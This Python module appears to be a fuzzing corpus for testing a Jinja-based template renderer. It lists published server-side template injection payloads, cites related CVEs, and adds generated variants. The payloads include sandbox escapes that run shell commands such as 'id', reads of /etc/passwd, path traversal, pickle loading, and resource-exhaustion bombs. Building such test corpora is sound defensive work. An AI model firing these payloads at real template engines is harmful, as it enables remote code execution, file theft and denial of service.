"""What is written into tags to get out of them: published payloads against Jinja and its kin, and made ones.

Sources of the shapes: PayloadsAllTheThings (Server Side Template Injection), the HackTricks pages on Jinja2 SSTI,
OWASP WSTG-INPV-18, CVE-2016-10745, CVE-2019-8341, CVE-2019-10906, CVE-2024-56201, CVE-2024-56326, CVE-2025-27516,
docxtpl #632.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

_ROOTS = ("cycler", "lipsum", "joiner", "namespace", "range", "dict", "self", "config", "request", "get_flashed_messages",
          "url_for", "loop", "caller", "varargs", "kwargs", "context", "environment", "family", "organisation", "''", "[]",
          "()", "1", "none", "true", "undefined")  # fmt: skip
_WAYS = (".__class__", ".__init__.__globals__", "['__class__']", '["__cla" ~ "ss__"]', "|attr('__class__')",
         "|attr('\\x5f\\x5fclass\\x5f\\x5f')", "|attr(['__','class','__']|join)", ".mro()", ".__mro__[1].__subclasses__()",
         "|map(attribute='__class__')|list", "|selectattr('__class__')|list", "|format('x')", ".format('x')", "|pprint",
         "|tojson", "|xmlattr", "|string|list", "|groupby('__class__')", "|sort(attribute='__class__')", "|urlize",
         ".__getattribute__('__class__')", "._Undefined__init", ".keys()", ".items()", "()", ".upper()")  # fmt: skip

PUBLISHED = (
    "{{ cycler.__init__.__globals__.os.popen('touch pwned').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ lipsum.__globals__.os.system('touch pwned') }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ ''.__class__.__base__.__subclasses__()[227]('cat /etc/passwd', shell=True, stdout=-1).communicate() }}",
    "{{ ().__class__.__bases__[0].__subclasses__() }}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ request['application']['__globals__']['__builtins__']['__import__']('os')['popen']('id')['read']() }}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os') }}",
    "{{ request|attr(['__','class','__']|join) }}",
    "{{ request|attr(request.args.getlist(request.args.l)|join) }}",
    "{{ config.items() }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('ls').read() }}",
    "{{ config.from_pyfile('/etc/passwd') }}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ url_for.__globals__.os.environ }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c }}{% endif %}{% endfor %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{% set a = cycler.__init__ %}{{ a.__globals__ }}",
    "{% with a = request['application'] %}{{ a }}{% endwith %}",
    "{% import 'os' as os %}{{ os.system('id') }}",
    "{% include '/etc/passwd' %}",
    "{% include '../../../../etc/passwd' ignore missing %}",
    "{% extends '/etc/passwd' %}",
    "{% from 'os' import popen %}",
    "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    "{% macro x(n) %}{{ x(n) ~ x(n) }}{% endmacro %}{{ x(9) }}",
    "{% call(x) a() %}{% endcall %}",
    "{% filter format('x') %}{% endfilter %}",
    "{% block x %}{% endblock %}",
    "{% autoescape false %}<w:altChunk/>{% endautoescape %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{% do x.append(1) %}",
    "{% debug %}",
    "{% trans %}x{% endtrans %}",
    "{% set ns = namespace(x=1) %}{{ ns }}",
    "{{ '%s' % family }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(family) }}",
    "{{ '{0.__class__}'|format(family) }}",
    "{{ ('{0.__class__}'|attr('format'))(family) }}",
    "{{ ['{}']|map('format', family)|list }}",
    "{{ '{}'.format_map({'a': family}) }}",
    "{% set m = ''.format %}{{ m('x') }}",
    "{{ 'x'|map('attr', '__class__')|list }}",
    "{{ family|attr('__class__') }}",
    "{{ family.model_dump_json() }}",
    "{{ family.parse_file('/etc/passwd') }}",
    "{{ family.parse_raw('x', proto='pickle', allow_pickle=True) }}",
    "{{ family.copy }}",
    "{{ family['__class__'] }}",
    "{{ family['_' ~ '_class__'] }}",
    "{{ family[('__class__')] }}",
    "{{ family.members[0].__dict__ }}",
    "{{ family.members.append(1) }}",
    "{{ family.members.__class__ }}",
    "{{ family.members[-99999999999999999999] }}",
    "{{ family.members[::1] }}",
    "{{ loop.changed.__globals__ }}",
    "{% for m in family.members %}{{ loop.cycle.__globals__ }}{{ loop._iterator }}{% endfor %}",
    "{% for m in family.members recursive %}{{ loop(family.members) }}{% endfor %}",
    "{% for m in family.members %}{{ loop.previtem.__class__ }}{{ loop.nextitem }}{{ loop.depth }}{% endfor %}",
    "{{ organisation.short_name.__class__ }}",
    "{{ organisation.short_name|safe }}",
    "{{ organisation.short_name|e|safe }}",
    "{{ '<w:altChunk/>'|safe }}",
    "{{ 7*7 }}", "{{ '7'*7 }}", "{{ 'A'*10000000000 }}", "{{ 9**9**9**9 }}", "{{ 9**(9**9) }}", "{{ 10//0 }}", "{{ 1/0 }}",
    "{{ 1 % 0 }}", "{{ 'x' % 1 }}", "{{ '%0999999999d' % 1 }}", "{{ 'x'|center(1000000000) }}", "{{ 1 << 99 }}",
    "{{ range(1000000000)|list }}", "{{ range(99999)|sum }}", "{{ lipsum(100000000) }}",
    "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
    "{% for a in 'abc' %}{{ a }}{% endfor %}", "{% for a in 12345 %}{{ a }}{% endfor %}",
    "{% for a in [1,2,3] %}{{ a }}{% endfor %}", "{% for a, b in [[1,2]] %}{{ a }}{% endfor %}",
    "{% while true %}x{% endwhile %}", "{% if %}{% endif %}", "{% for %}{% endfor %}", "{% endfor %}", "{% else %}",
    "{{ }}", "{{", "}}", "{%", "%}", "{{{{{{ 7 }}}}}}", "{{ {{ 7 }} }}", "{{ '}}' }}", "{{ \"{{\" }}", "{#", "#}", "{# {{ 7 }} #}",
    "{{ a.b.c.d.e.f.g.h }}", "{{ . }}", "{{ .. }}", "{{ |x }}", "{{ x| }}", "{{ x||y }}", "{{ ''''''  }}", "{{ 'x }}", "{{ \\ }}",
    "{{ 0x7fffffffffffffff + 1e308 }}", "{{ 1e999 - 1e999 }}", "{{ -1e999 }}", "{{ 1_000_000 }}", "{{ 0o777 }}",
    "{{ " + "9" * 3_000 + " }}", "{{ " + "9" * 5_000 + " + 1 }}", "{{ 'x" + "я" * 3_000 + "' }}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "${{7*7}}", "@(7*7)", "*{7*7}", "{{constructor.constructor('x')()}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}", "{php}echo 1;{/php}", "{{#with 's' as |x|}}{{/with}}",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}", "{{= x }}", "[[${7*7}]]", "__${7*7}__::.x",
)  # fmt: skip

BOMBS = (
    "{{ " + "(" * 500 + "1" + ")" * 500 + " }}",
    "{{ " + "[" * 500 + "1" + "]" * 500 + " }}",
    "{{ " + "not " * 3_000 + "true }}",
    "{{ " + "-" * 3_000 + "1 }}",
    "{{ " + "1+" * 20_000 + "1 }}",
    "{{ " + "1 if true else " * 1_000 + "1 }}",
    "{{ family" + ".a" * 5_000 + " }}",
    "{{ organisation.short_name" + "|upper" * 3_000 + " }}",
    "{{ 1" + " and 1" * 5_000 + " }}",
    "{{ 1" + " < 1" * 5_000 + " }}",
    "{{ [" + "1," * 50_000 + "] }}",
    "{% if " + "(" * 300 + "1" + ")" * 300 + " %}x{% endif %}",
    "{% if 1 %}" * 400 + "x" + "{% endif %}" * 400,
    "{% if 1 %}" * 60 + "x" + "{% endif %}" * 60,
    "{% if 1 %}x" + "{% elif 1 %}x" * 900 + "{% endif %}",
    "{% for a in family.members %}" * 5 + "x" + "{% endfor %}" * 5,
    "{% for a in family.members %}" * 100 + "x" + "{% endfor %}" * 100,
    "{{ 'a' ~ 'b' }}" * 300,
    "{{ [family.members, family.members, family.members] }}",
    "{{ [[[[family]]]] }}",
)  # fmt: skip


def generated(count: int, seed: int) -> Iterator[str]:
    """Make payloads: each root by each way, and chance mixtures of both."""
    every = [f"{{{{ {root}{way} }}}}" for root, way in itertools.product(_ROOTS, _WAYS)]
    dice = random.Random(seed)
    for number in range(count):
        if number < len(every) and count >= len(every):
            yield every[number]
        elif number % 3 == 0:
            yield dice.choice(every)
        else:
            ways = "".join(dice.choices(_WAYS, k=dice.randint(1, 4)))
            yield f"{{{{ {dice.choice(_ROOTS)}{ways} }}}}"
